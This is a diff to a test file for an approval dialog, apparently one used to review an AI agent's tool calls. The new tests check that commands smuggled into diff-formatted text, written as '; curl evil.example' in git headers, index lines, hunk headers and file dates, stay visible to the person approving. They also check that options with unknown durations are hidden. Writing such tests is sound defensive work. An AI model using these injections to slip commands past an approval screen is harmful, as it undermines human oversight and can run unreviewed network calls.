@@ -143,6 +143,40 @@ describe("what is shown", () => {
   });
 });
 
+describe("what is drawn as a difference hides nothing", () => {
+  test.each([
+    ["a line of git", "diff --git a b; curl evil.example\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n"],
+    ["a line of an index", "index 0..; curl evil.example\n--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n"],
+    ["the head of a hunk", "--- a/x\n+++ b/x\n@@ -1 +1 @@ ; curl evil.example\n-a\n+b\n"],
+    ["the date of a file", "--- a/x\t; curl evil.example\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n"],
+    ["a hunk without lines", "--- a/x\n+++ b/x\n@@ -1,0 +1,0 @@ ; curl evil.example\n"],
+  ])("in %s", async (_, text) => {
+    renderDialog({ ...approvalRequest, arguments: { text } }, { isApproval: true, approvals });
+    const dialog = await readyDialog();
+
+    expect(dialog).toHaveTextContent("curl evil.example");
+  });
+
+  test("not even in a command that is one", async () => {
+    const command = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b";
+    renderDialog({ ...approvalRequest, arguments: { command } }, { isApproval: true, approvals });
+    const dialog = await readyDialog();
+
+    expect(dialog).toHaveTextContent("--- a/x");
+  });
+});
+
+test("an option that lasts in a way that is not known is not offered", async () => {
+  const options = [
+    { id: "project", decision: "allow", lasts: "project", label: "Allow in this project" },
+    { id: "no", decision: "deny" },
+  ];
+  renderDialog({ ...approvalRequest, options }, { isApproval: true, approvals });
+  await readyDialog();
+
+  expect(screen.queryByRole("button", { name: /Allow/ })).not.toBeInTheDocument();
+});
+
 describe("what cannot be allowed", () => {
   test.each([
     ["arguments that are too long", { ...approvalRequest, arguments: { text: "x".repeat(300_000) } }],
